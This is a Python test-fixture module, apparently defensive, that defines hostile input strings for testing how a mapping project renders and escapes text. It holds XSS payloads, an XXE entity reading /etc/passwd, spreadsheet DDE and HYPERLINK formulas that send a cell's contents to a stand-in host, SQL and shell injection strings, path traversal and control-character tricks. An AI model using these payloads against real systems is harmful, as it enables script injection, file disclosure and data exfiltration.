"""Texts that would like to be something else: markup, code, formulas, paths, steering marks.

Every one is of our own making. Where one could run, it sets ``window.hostile`` or opens a
dialog, so that a browser tells; where one could compute, its result would be 9801 or 49.
"""

import re

from hotspots.mapping.pages.plain_text import plain

RAN = "window.hostile"
_SET = "window.hostile=1"

_MARKUP = {
    "script": f"<script>{_SET};alert(1)</script>",
    "script end": f"</script><script>{_SET}</script>",
    "script mixed case": f"</ScRiPt ><sCrIpT x>{_SET}</sCrIpT >",
    "image handler": f'<img src=x onerror="{_SET}">',
    "image handler bare": f"<img/src/onerror={_SET}>",
    "svg handler": f"<svg onload={_SET}>",
    "svg script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_SET}</script></svg>',
    "svg foreign": f"<svg><foreignObject><body onload={_SET}></foreignObject></svg>",
    "svg animation": f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    "math link": f'<math href="javascript:{_SET}">CLICK</math>',
    "details": f"<details open ontoggle={_SET}>",
    "focus": f"<input autofocus onfocus={_SET}>",
    "style": "</style><style>*{display:none}</style>",
    "style import": "<style>@import url(https://hostile.invalid/a.css);</style>",
    "frame": '<iframe srcdoc="&lt;script&gt;parent.hostile=1&lt;/script&gt;"></iframe>',
    "base": '<base href="https://hostile.invalid/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://hostile.invalid/">',
    "picture from outside": '<img src="https://hostile.invalid/a.png">',
    "form": '</main></body></html><form action="//hostile.invalid"><button>x',
    "title end": f"</title></textarea></noscript><script>{_SET}</script>",
    "comment": "<!-- <script>",
    "comment end": f"--><script>{_SET}</script>",
    "cdata end": f"]]><script>{_SET}</script>",
    "open tag": "<b",
    "bold": "<b>fed</b> &lt;i&gt;",
    "link": f'<a href="javascript:{_SET}">her</a>',
    "entity": "&amp;&#60;script&#62;&lt;b&gt;&nbsp;&quot;",
    "entity declared": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">'
    "]><a>&b;</a>",
    "stylesheet instruction": '<?xml-stylesheet href="https://hostile.invalid/a.xsl"?>',
}  # fmt: skip
_QUOTES = {
    "quote double": f'" onmouseover="{_SET}" autofocus onfocus="{_SET}" x="',
    "quote single": f"' onmouseover='{_SET}' x='",
    "quote and tag": f"'\"><img src=x onerror={_SET}>",
    "quote in script": f"';{_SET};//\";{_SET};//\\';{_SET};//`;{_SET};//",
    "backslash": '\\\\\\" \\n \\u003cb\\u003e \\x3cb\\x3e',
    "template literal": f"${{{_SET}}}`+alert(3)+`",
    "backtick": "`",
    "braces": "{{ 99 * 99 }}{{ self.__init__.__globals__ }}",
    "block": "{% raise %}{% for a in b %}{# c #}",
    "format": "{} {0} {name} {0.__class__} %s %d %n %(name)s $name ${HOME} $(id) #{99*99}",
    "script address": f"javascript:{_SET}",
    "script address broken": f"java\tscript:{_SET}//\nhttp://a",
    "data address": f"data:text/html,<script>{_SET}</script>",
    "prototype": "__proto__",
    "constructor": "constructor",
}  # fmt: skip
_FORMULAS = {
    "formula equals": "=99*99",
    "formula plus": "+99*99",
    "formula minus": "-99*99",
    "formula at": "@SUM(99*99)",
    "formula after tab": "\t=99*99",
    "formula after return": "\r=99*99",
    "formula after line end": "\n=99*99",
    "formula full width": "\uff1d99*99",
    "formula full width plus": "\uff0b99*99",
    "formula after quote": '"=99*99',
    "formula in next cell": '";=99*99;"\r\n=99*99,=99*99',
    "formula link": '=HYPERLINK("https://hostile.invalid/?"&A1,"her")',
    "formula dde": "=cmd|'/C calc'!A0",
    "formula dde at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula web": '=WEBSERVICE("https://hostile.invalid/")',
    "error value": "#REF!",
    "link alone": "https://hostile.invalid/a",
    "array": "{=99*99}",
}  # fmt: skip
_MARKUP_OF_DOCUMENTS = {
    "maths": "$x^2$ $\\frac{1}{0}$ \\input{/etc/passwd} \\immediate\\write18{id}",
    "maths unclosed": "$\\frac{ 5 $ 10",
    "typst code": '#eval("99*99") #99*99 #read("/etc/passwd") #import "@preview/a:0.1.0": *',
    "typst marks": "= *b* _i_ `c` @ref <label> // c /* d ~ -- \\ ]#[",
    "word field": '{ INCLUDETEXT "C:\\\\a.docx" } { DDEAUTO c:\\\\a "b" }',
    "word element": '</w:t></w:r><w:altChunk r:id="rId1"/>',
    "pdf": "(a) Tj ET) /JS (app.alert(1)) >> endobj %%EOF",
    "markdown": "[her](javascript:alert(1)) ![a](//hostile.invalid/a) | a | --- |",
}
_PLACES = {
    "path up": "../../../../etc/passwd",
    "path up windows": "..\\..\\a\\C:\\Windows\\win.ini",
    "path whole": "/dev/null",
    "path device": "CON",
    "path virtual": "/vsicurl/https://hostile.invalid/a.zip",
    "path with nul": "kort.html\x00.png",
    "sql quote": "'; drop table area; --",
    "sql or": '" or 1=1 or ""=" $$ $1 ? :a %\' --',
    "sql copy": "') union select * from read_text('/etc/passwd') --",
    "csv": 'a,b;c\t"d"\r\n"e;,""',
    "json": '"},{"a":"\\u0000","b":[',
    "shell": "; id | tee /tmp/a && `id` > b",
}
_MARKS = {
    "right to left": "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u200e\u061c",
    "hebrew and arabic": "שלום עולם مرحبا",
    "zero width": "No\u200brd\u200c\u200d\u2060",
    "controls": "".join(map(chr, range(0x20))) + "a\x7f",
    "later controls": "a \x80\x85\x9b31m\x9f",
    "escape": "\x1b[31mrød\x1b[2J\x1b]0;titel\x07\x1b]8;;https://hostile.invalid\x1b\\her",
    "nul": "No\x00rd",
    "surrogate first": "No\ud83drd",
    "surrogate second": "No\ude00rd",
    "line separators": "a\u2028b\u2029c",
    "byte order mark": "\ufeffNord\ufeff",
    "no characters": "a\ufffe\uffffb\ufdd0",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇰 😀",
    "zalgo": "N" + "\u0335\u0321\u0322\u0301\u0300\u0489" * 8 + "ord",
    "danish apart": "A\u030alholm O\u0308sterbro a\u030a",
    "danish": "Ærø Øster Ålholm Aabenraa & «Ö»",
    "chinese": "\u4eac\u90fd\U00020000",
    "private": "a\ue000b\U000f0000",
    "language tags": "a\U000e0001\U000e0061b\U000e007f",
    "turkish": "İstanbul ıI ß ŉ ﬁ",
}
_SIZES = {
    "long text": "ord " * 2_500,
    "long word": "A" * 10_000,
    "combining marks": "e" + "\u0301" * 10_000,
    "long markup": "<b>" * 500,
    "many quotes": "'\"" * 500,
    "many ampersands": "&" * 500,
}
# They look empty, or are read as missing, or as a number, or as the city.
_NOTHINGS = {
    "space": " ",
    "no-break space": "\u00a0",
    "zero width space": "\u200b",
    "hangul filler": "\u3164",
    "braille blank": "\u2800",
    "dots": "..",
    "null": "null",
    "nan": "NaN",
    "number": "1e308",
    "minus": "−6",
    "star": "*",
    "dash": "-",
    "day": "2026-11-03",
    "true": "TRUE",
}

HOSTILE = {**_MARKUP, **_QUOTES, **_FORMULAS, **_MARKUP_OF_DOCUMENTS, **_PLACES, **_MARKS,
           **_SIZES, **_NOTHINGS}  # fmt: skip
FORMULAS = tuple(_FORMULAS.values())
# As the command line or a table can hold it: without halves of a surrogate pair and NUL.
ALL_SHORT = re.sub(
    "[\ud800-\udfff\0]", "", " ".join(text for text in HOSTILE.values() if len(text) < 500)
)


def as_shown(text: str) -> str:
    """Return a text as pages, pictures and documents show it: steering marks gone."""
    return plain(text)


def squeezed(text: str) -> str:
    """Return a text as shown without white space, which lines and cells break at will."""
    return re.sub(r"[\s\u200b\u00ad]+", "", as_shown(text))
